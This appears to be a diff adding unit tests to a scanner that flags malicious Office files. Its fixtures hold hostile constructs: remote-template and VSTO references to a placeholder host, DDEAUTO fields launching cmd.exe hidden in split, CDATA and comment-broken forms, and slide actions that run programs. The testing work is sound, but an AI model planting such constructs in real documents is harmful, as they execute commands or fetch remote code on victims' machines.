@@ -162,6 +162,13 @@ def test_f05_in_every_encoding_office_reads(encoding: str) -> None:
 def test_f05_escapes_and_other_places() -> None:
     hidden = made.reaching("attachedTemplate", "&#104;ttp://e.example/a")
     assert ids(file("a.docx", hidden)) == {"F05": 6}
+    assert ids(
+        file("a.docx", made.relationships('<Relationship Id="a>b" Type="x/frame" Target="http://e.example/a"/>'))
+    )
+    assert ids(
+        file("a.docx", made.relationships(f'<Relationship{" " * 50_000}Target {" " * 99}= "http://e.example/a"/>'))
+    )
+    assert ids(file("a.docx", made.relationships("Relationship", "cp037"))) == {"F05": 3}
     flat = b'<?mso-application progid="Word.Document"?><w:attachedTemplate w:val="http://e.example/a"/>'
     assert ids(file("a.xml", flat)) == {"F05": 6}
     assert ids(file("a.rtf", made.rich(b"{\\*\\template http://e.example/a.dot}"))) == {"F05": 6}
@@ -179,6 +186,10 @@ def test_f05_escapes_and_other_places() -> None:
 def test_f06_fields_however_they_are_cut() -> None:
     cut = made.field("D", "DEA", "UTO", ' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
     assert ids(file("a.docx", made.document(cut))) == {"F06": 6}
+    quoted = "<w:instrText><![CDATA[DDEAUTO cmd /k]]></w:instrText>"
+    assert ids(file("a.docx", made.document(quoted))) == {"F06": 6}
+    noted = '<w:instrText w:x="a>b">D<!-- instrText -->DE cmd</w:instrText>'
+    assert ids(file("a.docx", made.document(noted))) == {"F06": 6}
     simple = '<w:fldSimple w:instr="DDE excel.exe x"/>'
     assert ids(file("a.docx", made.document(simple))) == {"F06": 6}
     letters = " ".join(str(ord(sign)) for sign in "DDEAUTO cmd /k")
@@ -248,6 +259,16 @@ def test_f07_the_password_office_tries_unasked() -> None:
     assert len(members_of(unasked)) == 1
 
 
+def test_f07_a_locked_open_document() -> None:
+    manifest = b'<manifest:file-entry><manifest:encryption-data manifest:checksum="x"/></manifest:file-entry>'
+    odt = {
+        "mimetype": b"application/vnd.oasis.opendocument.text",
+        "content.xml": b"\x8e",
+        "META-INF/manifest.xml": manifest,
+    }
+    assert ids(file("a.odt", zipped_as(odt))) == {"F07": 3}
+
+
 def test_f07_a_lock_built_to_cost_time_is_not_tried() -> None:
     slow = b'<keyEncryptors><p:encryptedKey spinCount="9000000"/></keyEncryptors>'.ljust(4096)
     assert ids(file("a.docx", compound({"EncryptionInfo": slow, "EncryptedPackage": bytes(4096)}))) == {"F07": 3}
@@ -296,6 +317,15 @@ def test_f08_controls_and_assemblies() -> None:
     assert ids(file("a.docx", made.document(word_S_activeX_S_activeX1__xml=button))) == {}
     assembly = b'<property name="_AssemblyLocation"><vt:lpwstr>https://e.example/a.vsto</vt:lpwstr></property>'
     assert ids(file("a.docx", made.document(docProps_S_custom__xml=assembly))) == {"F08": 6}
+
+
+def test_f08_slides_that_act() -> None:
+    run = b'<a:hlinkMouseOver r:id="rId2" action="ppaction://program"/>'
+    assert ids(file("a.pptx", made.document(ppt_S_slides_S_slide1__xml=run))) == {"F08": 6}
+    passing = b'<a:hlinkMouseOver r:id="rId2"/>'
+    assert ids(file("a.pptx", made.document(ppt_S_slides_S_slide1__xml=passing))) == {"F08": 3}
+    honest = b'<a:hlinkClick r:id="rId2"/><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>'
+    assert ids(file("a.pptx", made.document(ppt_S_slides_S_slide1__xml=honest))) == {}
 
 
 # OneNote and rich text
